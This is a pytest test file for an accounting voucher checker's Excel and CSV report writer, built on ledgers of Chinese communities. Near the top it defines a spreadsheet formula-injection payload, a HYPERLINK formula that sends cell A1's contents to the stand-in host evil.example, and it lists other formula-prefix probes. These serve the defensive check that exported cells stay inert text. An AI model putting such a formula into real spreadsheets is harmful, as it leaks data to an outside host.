"""The Excel working paper and the findings CSV, built from a ScanResult made by hand and read
back with openpyxl."""
from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pandas as pd
import pytest

from checker.engine import FINDING_COLUMNS, empty_findings, no_findings, run_rules
from checker.model import DataError, ReadResult, ScanResult, SheetInfo
from checker.policy import Policy
from checker.registry import Rule
from checker.report import (FINDING_HEADERS, REVIEW_HEADERS, build_workbook, inert_text, rows_label,
                            write_findings_csv, write_report)
from checker.schema import empty_ledger
from checker.testing import ledger_from_rows

INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
STARTED = dt.datetime(2024, 5, 6, 9, 30, 15)
FIELDS = frozenset({"date", "voucher", "summary", "account_code", "account_name", "debit", "credit"})


def _line(entity, file, sheet, row, voucher, date, summary, account, debit, credit, book="admin"):
    return {"entity": entity, "book": book, "file": file, "sheet": sheet, "row": row, "voucher": voucher,
            "date": date, "summary": summary, "account": account, "debit": debit, "credit": credit}


ADMIN_FILE = "建设社区/行政账2021.xlsx"
LEDGER_ROWS = [
    # 建设社区 行政账, 3月: 记-6 is over the petty-cash limit, 记-7 is clean, 记-9 has injected text
    _line("建设社区", ADMIN_FILE, "3月", 9, "记-6", "2021-03-06", "提取备用金", "1001 库存现金", "2500.50", ""),
    _line("建设社区", ADMIN_FILE, "3月", 10, "记-6", "2021-03-06", "提取备用金", "1002 银行存款", "", "2500.50"),
    _line("建设社区", ADMIN_FILE, "3月", 11, "记-7", "2021-03-08", "购办公用品", "5201 办公费", "300", ""),
    _line("建设社区", ADMIN_FILE, "3月", 12, "记-7", "2021-03-08", "购办公用品", "1001 库存现金", "", "300"),
    _line("建设社区", ADMIN_FILE, "3月", 13, "记-9", "2021-03-20", INJECTION, "1001 库存现金", "3000", ""),
    _line("建设社区", ADMIN_FILE, "3月", 14, "记-9", "2021-03-20", "@SUM(1+1)\x07", "1002 银行存款", "", "3000"),
    # 幸福村 行政账: one small finding, so it ranks after 建设社区
    _line("幸福村", "幸福村/村账.xlsx", "2021", 5, "记-1", "2021-01-04", "现金报销", "1001 库存现金", "2100", ""),
    _line("幸福村", "幸福村/村账.xlsx", "2021", 6, "记-1", "2021-01-04", "现金报销", "1002 银行存款", "", "2100"),
    # 幸福村 工会账 without amounts in its header: the rule cannot run there
    _line("幸福村", "幸福村/工会账.xlsx", "Sheet1", 4, "记-1", "2021-02-01", "慰问", "5301 工会经费", "", "",
          book="union"),
]


def _check_cash(ledger: pd.DataFrame, options: dict) -> pd.DataFrame:
    limit = int(options["limit_yuan"] * 100)
    hit = ledger[(ledger["account_class"] == "cash") & (ledger["debit_fen"] > limit)]
    if hit.empty:
        return no_findings()
    return pd.DataFrame({"voucher_key": hit["voucher_key"], "line_id": hit["line_id"],
                         "amount_fen": hit["debit_fen"],
                         "message": [f"提取现金 {d / 100:,.2f} 元，超过限额" for d in hit["debit_fen"]]})


def _check_summary(ledger: pd.DataFrame, options: dict) -> pd.DataFrame:
    hit = ledger[ledger["summary"].str.startswith(tuple(options["words"]))]
    if hit.empty:
        return no_findings()
    return pd.DataFrame({"voucher_key": hit["voucher_key"], "line_id": hit["line_id"],
                         "amount_fen": hit["debit_fen"] + hit["credit_fen"],
                         "message": "摘要以公式字符开头", "severity": "low"})


def _rules() -> list[Rule]:
    cash = Rule(id="petty-cash-over-limit", title="超限额提取备用金", title_en="Petty cash over the limit",
                severity="high", basis="《现金管理暂行条例》第五条", requires=("debit", "account"),
                defaults={"limit_yuan": 2000}, options_help={"limit_yuan": "备用金限额（元）"},
                check=_check_cash, options={"limit_yuan": 2000})
    odd = Rule(id="odd-summary", title="摘要异常", title_en="Odd summary", severity="medium",
               basis="《会计基础工作规范》第四十七条", requires=("summary",), defaults={"words": ["=", "@"]},
               options_help={"words": "摘要开头的可疑字符"}, check=_check_summary,
               options={"words": ["=", "@"]})
    unused = Rule(id="unused-rule", title="未启用规则", title_en="Disabled", severity="low", basis="无",
                  requires=(), defaults={}, options_help={}, check=lambda l, o: no_findings(), enabled=False)
    return [cash, odd, unused]


def _sheets() -> list[SheetInfo]:
    return [
        SheetInfo(ADMIN_FILE, "3月", "建设社区", "admin", header_rows=(3, 4), fields=FIELDS, lines=6,
                  skipped={"合计行": 2, "空行": 1}, data_rows=9, periods=["2021-03"]),
        SheetInfo("幸福村/村账.xlsx", "2021", "幸福村", "admin", header_rows=(2,), fields=FIELDS, lines=2,
                  skipped={"合计行": 1}, data_rows=5, periods=["2021-01", "2021-04"]),   # 2 rows lost
        SheetInfo("幸福村/工会账.xlsx", "Sheet1", "幸福村", "union", header_rows=(1,),
                  fields=frozenset({"date", "voucher", "summary", "account_name"}), lines=1, data_rows=1,
                  periods=["2021-02"]),
    ]


def _scan(**overrides) -> ScanResult:
    ledger = ledger_from_rows(LEDGER_ROWS)
    sheets, rules = _sheets(), _rules()
    findings, gaps = run_rules(ledger, sheets, rules, Policy())
    dropped = pd.DataFrame({"file": [ADMIN_FILE] * 3, "sheet": ["3月"] * 3, "row": [15, 16, 17],
                            "reason": ["合计行", "合计行", "空行"], "text": ["本月合计", "=1+1", ""]})
    errors = [DataError(ADMIN_FILE, "3月", 18, "F（借方金额）", "金额“abc”无法识别，该行未参与检查。"),
              DataError("幸福村/村账.xlsx", "", None, "", "工作表“草稿”为隐藏表，未读取。", kind="warning")]
    values = dict(read=ReadResult(ledger, sheets, errors, dropped), findings=findings, rule_gaps=gaps,
                  rules=rules, inputs=["/data/ledgers"], policy_path=None, started_at=STARTED,
                  finished_at=STARTED + dt.timedelta(seconds=3), version="0.1.0")
    values.update(overrides)
    return ScanResult(**values)


@pytest.fixture(scope="module")
def scan() -> ScanResult:
    return _scan()


@pytest.fixture(scope="module")
def report(scan, tmp_path_factory):
    path = tmp_path_factory.mktemp("report") / "报告.xlsx"
    write_report(scan, path)
    return path


@pytest.fixture(scope="module")
def wb(report):
    return openpyxl.load_workbook(report)


def _header(ws, row=1) -> list:
    return [c.value for c in ws[row] if c.value is not None]


def _column(ws, header: str, row=1) -> int:
    return _header(ws, row).index(header) + 1


def _find_row(ws, text: str, column: int = 1) -> int:
    for row in ws.iter_rows(min_col=column, max_col=column):
        if row[0].value == text:
            return row[0].row
    raise AssertionError(f"{text!r} not found in {ws.title}")


# ---------------------------------------------------------------------------- structure

def test_sheets_in_order(wb):
    assert wb.sheetnames == ["汇总", "问题清单", "凭证明细", "数据问题", "规则说明"]


def test_findings_sheet_has_one_row_per_finding(wb, scan):
    ws = wb["问题清单"]
    assert _header(ws) == list(FINDING_HEADERS) + list(REVIEW_HEADERS)
    assert ws.max_row == len(scan.findings) + 1
    assert [ws.cell(row=r, column=1).value for r in range(2, ws.max_row + 1)] == list(range(1, len(scan.findings) + 1))
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref.startswith("A1:")


def test_findings_values_and_source(wb, scan):
    ws = wb["问题清单"]
    row = next(r for r in range(2, ws.max_row + 1) if ws.cell(row=r, column=_column(ws, "凭证号")).value == "记-6")
    get = lambda h: ws.cell(row=row, column=_column(ws, h))
    assert get("单位").value == "建设社区"
    assert get("账套").value == "行政账"
    assert get("期间").value == "2021-03"
    assert get("规则").value == "超限额提取备用金"
    assert get("风险等级").value == "高"
    assert get("风险等级").fill.fgColor.rgb.endswith("FF8B8B")
    assert get("依据").value == "《现金管理暂行条例》第五条"
    assert get("来源").value == "建设社区/行政账2021.xlsx / 3月 / 第9–10行"
    assert get("问题说明").value == "提取现金 2,500.50 元，超过限额"
    assert get("金额").value == pytest.approx(2500.50)
    assert get("金额").number_format == "#,##0.00"
    date = get("日期")
    assert isinstance(date.value, dt.datetime) and date.value.date() == dt.date(2021, 3, 6)
    assert date.number_format == "yyyy-mm-dd"
    assert date.is_date


def test_review_column_has_drop_down(wb, scan):
    ws = wb["问题清单"]
    column = openpyxl.utils.get_column_letter(_column(ws, "核实结论"))
    validations = ws.data_validations.dataValidation
    assert len(validations) == 1
    dv = validations[0]
    assert dv.type == "list"
    assert dv.formula1 == '"属实,不属实,已整改,待核实"'
    assert str(dv.sqref) == f"{column}2:{column}{len(scan.findings) + 1}"


@pytest.mark.parametrize("title", ["汇总", "问题清单", "凭证明细", "数据问题", "规则说明"])
def test_print_settings(wb, title):
    ws = wb[title]
    assert ws.page_setup.orientation == "landscape"
    assert int(ws.page_setup.paperSize) == 9
    assert int(ws.page_setup.fitToWidth) == 1
    assert int(ws.page_setup.fitToHeight) == 0
    assert ws.sheet_properties.pageSetUpPr.fitToPage is True
    assert "第 &P 页 共 &N 页" in ws.oddFooter.center.text
    assert ws.oddFooter.left.text == "多个单位"
    assert "凭证检查报告" in ws.oddHeader.center.text
    if title != "汇总":
        assert ws.print_title_rows == "$1:$1"


def test_footer_names_the_one_community(tmp_path):
    ledger = ledger_from_rows(LEDGER_ROWS[:6])
    scan = _scan(read=ReadResult(ledger, _sheets()[:1], [], pd.DataFrame()),
                 findings=run_rules(ledger, _sheets()[:1], _rules(), Policy())[0], rule_gaps=[])
    write_report(scan, tmp_path / "r.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "r.xlsx")["问题清单"]
    assert ws.oddFooter.left.text == "建设社区"


def test_voucher_link_points_at_first_line_of_voucher(wb, scan):
    ws, detail = wb["问题清单"], wb["凭证明细"]
    voucher_col = _column(ws, "凭证号")
    detail_voucher, detail_row = _column(detail, "凭证号"), _column(detail, "行号")
    checked = 0
    for r in range(2, ws.max_row + 1):
        cell = ws.cell(row=r, column=voucher_col)
        assert cell.hyperlink is not None, f"row {r} has no link"
        sheet, _, target = cell.hyperlink.location.rpartition("!")
        assert sheet == "'凭证明细'"
        target_row = int(target.lstrip("A"))
        assert detail.cell(row=target_row, column=detail_voucher).value == cell.value
        source = ws.cell(row=r, column=_column(ws, "来源")).value
        first_source_row = int(source.split("第")[1].split("–")[0].rstrip("行"))
        assert detail.cell(row=target_row, column=detail_row).value == first_source_row
        above = detail.cell(row=target_row - 1, column=detail_voucher).value
        assert above in (None, "凭证号")          # a separator or the header: it is the first line
        checked += 1
    assert checked == len(scan.findings)


def test_detail_has_every_line_of_flagged_vouchers_grouped(wb, scan):
    detail = wb["凭证明细"]
    assert _header(detail) == ["单位", "账套", "期间", "凭证号", "日期", "行号", "摘要", "科目编码", "科目名称",
                               "借方金额", "贷方金额", "往来单位", "制单人", "审核人", "附件数", "问题",
                               "来源文件", "工作表"]
    rows = [r for r in detail.iter_rows(min_row=2, values_only=True)]
    lines = [r for r in rows if any(v is not None for v in r)]
    flagged = scan.ledger[scan.ledger["voucher_key"].isin(scan.findings["voucher_key"])]
    assert len(lines) == len(flagged) == 6          # 记-6, 记-9 of 建设社区 and 记-1 of 幸福村, two lines each
    assert len(rows) - len(lines) == 2              # blank rows between the three vouchers
    by_voucher = {}
    for r in lines:
        by_voucher.setdefault((r[0], r[3]), []).append(r)
    assert set(by_voucher) == {("建设社区", "记-6"), ("建设社区", "记-9"), ("幸福村", "记-1")}
    nine = by_voucher[("建设社区", "记-9")]
    assert nine[0][15] == "超限额提取备用金；摘要异常"
    assert [r[5] for r in nine] == [13, 14]
    assert nine[0][9] == pytest.approx(3000) and nine[0][10] is None
    assert detail.cell(row=2, column=10).number_format == "#,##0.00"
    assert detail.cell(row=2, column=5).is_date


# ---------------------------------------------------------------------------- inert text

def test_formula_injection_stays_text(report, wb):
    for title, column in (("问题清单", "摘要"), ("凭证明细", "摘要")):
        ws = wb[title]
        col = _column(ws, column)
        cells = [ws.cell(row=r, column=col) for r in range(2, ws.max_row + 1)]
        hit = [c for c in cells if c.value == INJECTION]
        assert hit, title
        assert all(c.data_type == "s" for c in hit)
        assert all(c.quotePrefix for c in hit)
    col = _column(wb["凭证明细"], "摘要")
    assert "@SUM(1+1)" in [c.value for c in wb["凭证明细"][openpyxl.utils.get_column_letter(col)]]  # \x07 removed
    with zipfile.ZipFile(report) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert "<f>" not in archive.read(name).decode("utf-8"), name


@pytest.mark.parametrize("value, xlsx, csv_text", [
    ("=1+1", "=1+1", "'=1+1"),
    ("+86 138", "+86 138", "'+86 138"),
    ("-5", "-5", "'-5"),
    ("@SUM(A1)", "@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "\tx", "'\tx"),
    ("\r=1", "\n=1", "'\n=1"),
    ("  =1", "  =1", "'  =1"),
    ("a\x00b\x1fc\x0b", "abc", "abc"),
    ("\x07=1", "=1", "'=1"),
    ("\u3000=1", "\u3000=1", "'\u3000=1"),
    ("第一行\r\n第二行", "第一行\n第二行", "第一行\n第二行"),
    ("提取备用金", "提取备用金", "提取备用金"),
    (None, "", ""),
    (float("nan"), "", ""),
    (pd.NA, "", ""),
    (12, "12", "12"),
])
def test_inert_text(value, xlsx, csv_text):
    assert inert_text(value) == xlsx
    assert inert_text(value, for_csv=True) == csv_text


def test_rows_label():
    assert rows_label([10, 9]) == "9–10"
    assert rows_label([9, 10, 12, 14, 15, 16]) == "9–10、12、14–16"
    assert rows_label([7]) == "7"
    assert rows_label([]) == ""


# ---------------------------------------------------------------------------- summary

def _summary_table(ws, section_prefix: str) -> tuple[list, list[list]]:
    title_row = next(r for r in range(1, ws.max_row + 1)
                     if str(ws.cell(row=r, column=1).value or "").startswith(section_prefix))
    header = _header(ws, title_row + 1)
    rows = []
    for r in range(title_row + 2, ws.max_row + 1):
        values = [ws.cell(row=r, column=c).value for c in range(1, len(header) + 1)]
        if all(v is None for v in values):
            break
        rows.append(values)
    return header, rows


def test_summary_run_facts(wb):
    ws = wb["汇总"]
    facts = {ws.cell(row=r, column=1).value: ws.cell(row=r, column=2).value for r in range(3, 30)}
    assert facts["生成时间"] == "2024-05-06 09:30:15"
    assert facts["版本"] == "0.1.0"
    assert facts["输入"] == "/data/ledgers"
    assert facts["文件数"] == 3
    assert facts["工作表数"] == 3
    assert facts["分录行数"] == 9
    assert facts["剔除行数"] == 4
    assert facts["数据问题"].startswith("错误 1 条，提示 1 条")
    assert facts["策略文件"] == "默认"
    assert facts["检查期间"] == "全部期间"
    assert facts["问题数"] == 4


def test_summary_ranks_communities_high_findings_first(wb):
    header, rows = _summary_table(wb["汇总"], "二、")
    assert header[:4] == ["排序", "单位", "账套", "会计期间"]
    assert [(r[1], r[2]) for r in rows] == [("建设社区", "行政账"), ("幸福村", "行政账"), ("幸福村", "工会账")]
    first = dict(zip(header, rows[0]))
    assert (first["高"], first["中"], first["低"], first["问题数"]) == (2, 0, 1, 3)
    # 记-9 line 13 is flagged by two rules; its 3,000.00 counts once
    assert first["涉及金额（元）"] == pytest.approx(2500.50 + 3000)
    assert dict(zip(header, rows[1]))["会计期间"] == "2021-01 至 2021-04（2 个月，缺 2021-02、2021-03）"


def test_summary_rule_totals_and_charts(report, wb):
    header, rows = _summary_table(wb["汇总"], "四、")
    assert header == ["规则编号", "规则", "风险等级", "问题数", "金额（元）"]
    assert rows[0][:4] == ["petty-cash-over-limit", "超限额提取备用金", "高", 3]
    assert rows[0][4] == pytest.approx(2500.50 + 3000 + 2100)
    assert [r[0] for r in rows] == ["petty-cash-over-limit", "odd-summary"]   # the disabled rule is left out
    with zipfile.ZipFile(report) as archive:
        charts = [n for n in archive.namelist() if n.startswith("xl/charts/chart")]
    assert len(charts) == 2                     # by rule, and by community since there are two


def test_summary_lists_rules_that_did_not_run(wb, scan):
    assert scan.rule_gaps, "the 工会账 sheet has no amounts, so the cash rule cannot run there"
    header, rows = _summary_table(wb["汇总"], "六、")
    assert header == ["规则编号", "规则", "文件", "工作表", "缺少字段"]
    assert ["petty-cash-over-limit", "超限额提取备用金", "幸福村/工会账.xlsx", "Sheet1", "借方金额"] in rows


def test_completeness_table(wb):
    ws = wb["汇总"]
    header, rows = _summary_table(ws, "七、")
    assert header == ["文件", "工作表", "单位", "账套", "状态", "表头行", "分录行数", "剔除行数", "剔除：合计行",
                      "剔除：空行", "非空数据行", "核对", "说明"]
    by_sheet = {(r[0], r[1]): dict(zip(header, r)) for r in rows}
    admin = by_sheet[(ADMIN_FILE, "3月")]
    assert (admin["表头行"], admin["分录行数"], admin["剔除：合计行"], admin["剔除：空行"], admin["核对"]) == \
        ("3–4", 6, 2, 1, "一致")
    assert by_sheet[("幸福村/村账.xlsx", "2021")]["核对"] == "不一致"
    mismatch_row = next(r for r in range(1, ws.max_row + 1) if ws.cell(row=r, column=12).value == "不一致")
    assert ws.cell(row=mismatch_row, column=12).fill.fgColor.rgb.endswith("FF8B8B")


# ---------------------------------------------------------------------------- other sheets

def test_data_problems_lists_errors_dropped_rows_and_gaps(wb):
    ws = wb["数据问题"]
    assert _header(ws) == ["类别", "文件", "工作表", "行号", "列", "说明", "原文"]
    kinds = [ws.cell(row=r, column=1).value for r in range(2, ws.max_row + 1)]
    assert kinds == ["错误", "提示", "剔除行", "剔除行", "剔除行", "规则未运行"]
    dropped = [ws.cell(row=r, column=7) for r in range(2, ws.max_row + 1) if ws.cell(row=r, column=1).value == "剔除行"]
    assert dropped[1].value == "=1+1" and dropped[1].data_type == "s"
    assert ws.cell(row=2, column=4).value == 18


def test_data_problems_says_none_when_clean(tmp_path):
    ledger = ledger_from_rows(LEDGER_ROWS[2:4])
    scan = _scan(read=ReadResult(ledger, [], [], pd.DataFrame(columns=["file", "sheet", "row", "reason", "text"])),
                 findings=empty_findings(), rule_gaps=[])
    write_report(scan, tmp_path / "r.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
    ws = wb["数据问题"]
    assert ws.max_row == 2 and ws.cell(row=2, column=1).value == "无"
    assert wb["问题清单"].cell(row=2, column=1).value == "未发现问题。"
    assert not wb["问题清单"].data_validations.dataValidation


def test_rules_sheet(wb):
    ws = wb["规则说明"]
    assert _header(ws) == ["规则编号", "中文名称", "English title", "风险等级", "依据", "是否启用", "所需字段",
                           "选项（本次生效值）", "选项说明"]
    rows = {r[0]: r for r in ws.iter_rows(min_row=2, values_only=True)}
    assert rows["petty-cash-over-limit"][1:6] == ("超限额提取备用金", "Petty cash over the limit", "高",
                                                  "《现金管理暂行条例》第五条", "是")
    assert rows["petty-cash-over-limit"][7] == "limit_yuan = 2000"
    assert rows["petty-cash-over-limit"][8] == "limit_yuan：备用金限额（元）"
    assert rows["odd-summary"][7] == "words = =、@"
    assert rows["unused-rule"][5] == "否"


def test_column_widths_count_chinese_as_two(wb):
    ws = wb["问题清单"]
    # 单位 holds four Chinese characters: at least 8 units wide plus padding
    assert ws.column_dimensions["B"].width >= 10
    assert ws.column_dimensions["L"].width <= 36          # 问题说明 wraps instead of growing
    assert ws.cell(row=2, column=12).alignment.wrap_text


# ---------------------------------------------------------------------------- files

def test_same_scan_gives_same_bytes(scan, tmp_path):
    write_report(scan, tmp_path / "a.xlsx")
    write_report(scan, tmp_path / "b.xlsx")
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()
    props = openpyxl.load_workbook(tmp_path / "a.xlsx").properties
    assert props.created == STARTED and props.modified == STARTED


def test_workbook_xml_is_well_formed(report):
    from xml.etree import ElementTree
    with zipfile.ZipFile(report) as archive:
        assert archive.testzip() is None
        for name in archive.namelist():
            if name.endswith(".xml") or name.endswith(".rels"):
                ElementTree.fromstring(archive.read(name))
        workbook_xml = archive.read("xl/workbook.xml").decode("utf-8")
    names = [part.split('"')[0] for part in workbook_xml.split('definedName name="')[1:]]
    local_ids = [part.split('localSheetId="')[1].split('"')[0] if 'localSheetId="' in part.split(">")[0] else ""
                 for part in workbook_xml.split("<definedName ")[1:]]
    assert len(set(zip(names, local_ids))) == len(names)


def test_csv_has_bom_and_the_finding_rows(scan, tmp_path):
    path = tmp_path / "问题清单.csv"
    write_findings_csv(scan, path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == list(FINDING_HEADERS)
    assert len(rows) == len(scan.findings) + 1
    by_voucher = {(r[1], r[4], r[9]): r for r in rows[1:]}
    six = by_voucher[("建设社区", "记-6", "超限额提取备用金")]
    assert six[5] == "2021-03-06" and six[8] == "2500.50" and six[10] == "高"
    assert six[13] == "建设社区/行政账2021.xlsx / 3月 / 第9–10行"
    nine = [r for r in rows[1:] if r[4] == "记-9"]
    assert {r[6] for r in nine} == {"'" + INJECTION}


def test_csv_without_findings_has_only_the_header(tmp_path):
    scan = _scan(findings=empty_findings())
    write_findings_csv(scan, tmp_path / "f.csv")
    assert (tmp_path / "f.csv").read_text(encoding="utf-8-sig").splitlines() == [",".join(FINDING_HEADERS)]


def test_hand_built_findings_frame(tmp_path):
    """A findings frame built directly with FINDING_COLUMNS, as other writers' tests do."""
    ledger = ledger_from_rows(LEDGER_ROWS[:2])
    key = ledger["voucher_key"].iloc[0]
    findings = pd.DataFrame([{
        "rule": "petty-cash-over-limit", "title": "超限额提取备用金", "severity": "high", "entity": "建设社区",
        "book": "admin", "file": ADMIN_FILE, "sheet": "3月", "rows": [9, 10], "period": "2021-03",
        "voucher": "记-6", "voucher_word": "记", "voucher_no": 6, "voucher_key": key,
        "date": pd.Timestamp("2021-03-06"), "amount_fen": 250050, "message": "超限额", "summary": "提取备用金",
        "account": "1001 库存现金", "basis": "依据", "line_id": 0}], columns=list(FINDING_COLUMNS))
    scan = _scan(read=ReadResult(ledger, _sheets()[:1], [], pd.DataFrame()), findings=findings, rule_gaps=[])
    wb = build_workbook(scan)
    assert wb["问题清单"]["I2"].value == pytest.approx(2500.50)
    assert wb["问题清单"]["E2"].hyperlink.location == "'凭证明细'!A2"


def test_empty_scan_still_writes_every_sheet(tmp_path):
    scan = _scan(read=ReadResult(empty_ledger(), [], [], pd.DataFrame()), findings=empty_findings(),
                 rule_gaps=[], rules=[], inputs=[])
    write_report(scan, tmp_path / "empty.xlsx")
    write_findings_csv(scan, tmp_path / "empty.csv")
    wb = openpyxl.load_workbook(tmp_path / "empty.xlsx")
    assert wb.sheetnames == ["汇总", "问题清单", "凭证明细", "数据问题", "规则说明"]


# ---------------------------------------------------------------------------- the fast writer

ODD_TEXT = ["  前后有空格  ", "a & b < c > d", "第一行\n第二行", "\u3000全角空格", "#N/A", "-5", "@x", "tab\tin",
            "🙂宽字符", "ｆｕｌｌ", "x" * 40000]


def _odd_scan() -> ScanResult:
    """Text that exercises escaping, xml:space, quote prefixes, wrapping and the length limit."""
    rows = list(LEDGER_ROWS)
    for i, text in enumerate(ODD_TEXT):
        voucher = f"记-{100 + i}"
        rows += [_line("奇怪&社区", "odd/<文件>.xlsx", "表 1", 20 + 2 * i, voucher, "2021-05-03", text, "1001 库存现金",
                       str(2500 + i), ""),
                 _line("奇怪&社区", "odd/<文件>.xlsx", "表 1", 21 + 2 * i, voucher, "2021-05-03", text[::-1],
                       "1002 银行存款", "", str(2500 + i))]
    ledger = ledger_from_rows(rows)
    sheets = _sheets() + [SheetInfo("odd/<文件>.xlsx", "表 1", "奇怪&社区", "admin", header_rows=(1,), fields=FIELDS,
                                    lines=2 * len(ODD_TEXT), data_rows=2 * len(ODD_TEXT), periods=["2021-05"])]
    findings, gaps = run_rules(ledger, sheets, _rules(), Policy())
    return _scan(read=ReadResult(ledger, sheets, [], pd.DataFrame()), findings=findings, rule_gaps=gaps)


@pytest.mark.parametrize("make", [_scan, _odd_scan])
def test_report_is_what_openpyxl_writes_for_the_same_cells(make, tmp_path):
    """write_report writes the cells' XML itself; openpyxl's own writer, given the same cells as
    openpyxl cells (build_workbook), must produce the same file byte for byte."""
    from openpyxl.writer.excel import ExcelWriter

    from checker.report import _FixedTimeZipFile, _naive_utc
    scan = make()
    write_report(scan, tmp_path / "fast.xlsx")
    with _FixedTimeZipFile(tmp_path / "openpyxl.xlsx", _naive_utc(scan.started_at)) as archive:
        ExcelWriter(build_workbook(scan), archive).save()
    assert (tmp_path / "fast.xlsx").read_bytes() == (tmp_path / "openpyxl.xlsx").read_bytes()
    if make is _odd_scan:
        detail = openpyxl.load_workbook(tmp_path / "fast.xlsx")["凭证明细"]
        summaries = {c.value: c for c in detail["G"]}
        assert set(ODD_TEXT[:-1]) <= set(summaries) and "x" * 32767 in summaries    # cut at Excel's limit
        assert all(summaries[text].quotePrefix for text in ("#N/A", "-5", "@x"))
        assert summaries["第一行\n第二行"].alignment.wrap_text


def test_detail_lines_are_found_by_line_and_voucher_id():
    """The flagged vouchers' lines are looked up without scanning the ledger's text; the result is
    the same as selecting by voucher_key, also for findings that do not match the ledger."""
    from checker.report import _voucher_lines

    scan = _odd_scan()
    ledger, findings = scan.ledger, scan.findings
    keys = list(dict.fromkeys(findings["voucher_key"]))

    def by_key(wanted):
        return ledger[ledger["voucher_key"].isin(wanted)].sort_values(["file", "sheet", "row", "line_id"],
                                                                       kind="stable")
    pd.testing.assert_frame_equal(_voucher_lines(ledger, findings, keys), by_key(keys))
    odd = findings.copy()
    odd.loc[0, "line_id"] = 10_000                       # not a line of the ledger
    odd.loc[1, "line_id"] = int(ledger["line_id"].iloc[-1])   # a line of another voucher
    pd.testing.assert_frame_equal(_voucher_lines(ledger, odd, keys + ["无此凭证"]), by_key(keys))
    pd.testing.assert_frame_equal(_voucher_lines(ledger.drop(columns="voucher_id"), findings, keys),
                                  by_key(keys).drop(columns="voucher_id"))


def test_writing_leaves_the_garbage_collector_as_it_was(scan, tmp_path):
    import gc
    assert gc.isenabled()
    write_report(scan, tmp_path / "r.xlsx")
    assert gc.isenabled()
    gc.disable()
    try:
        write_report(scan, tmp_path / "r.xlsx")
        assert not gc.isenabled()
    finally:
        gc.enable()
